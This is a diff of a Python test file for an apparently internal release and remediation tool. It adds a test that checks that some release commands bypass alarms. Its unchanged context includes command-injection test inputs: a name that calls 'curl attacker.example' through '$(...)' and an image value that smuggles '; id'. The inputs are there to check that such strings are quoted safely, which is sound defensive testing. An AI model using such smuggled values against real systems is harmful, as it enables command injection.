@@ -49,6 +49,8 @@ _KNOWN: tuple[Known | Cause | Reason, ...] = (
     *CATALOGUE.releases.values(),
     CATALOGUE.unknown_release,
 )
+# Corrected images, and what was to be released in good order, wait until no alarm is in ALARM.
+_UNHURRIED = (FINDINGS["release-stopped"], *CATALOGUE.releases.values(), CATALOGUE.unknown_release)
 _LINES = {line.strip() for known in _KNOWN for it in known.remediations for line in re.split("&&|;", it.command)}
 
 
@@ -67,3 +69,18 @@ def test_a_name_from_outside_is_one_word_of_a_command() -> None:
     names = ("project-5xx", "project-$(curl attacker.example)")
     command = asked.filled({"alarms": names, "image": "evil:1; id"}).command
     assert shlex.split(command) == ["aws", "x", "--alarm-names", *names, "--image", "evil:1; id"]
+
+
+@pytest.mark.parametrize(
+    "command",
+    sorted(
+        it.command
+        for known in _KNOWN
+        if known not in _UNHURRIED
+        for it in known.remediations
+        if "hannibal release " in it.command and "--wait" not in it.command
+    ),
+)
+def test_a_release_that_repairs_is_accepted_while_tasks_are_missing_or_alarms_are_raised(command: str) -> None:
+    """A release is refused then, and these are advised in just that state."""
+    assert "--ignore-alarms" in command
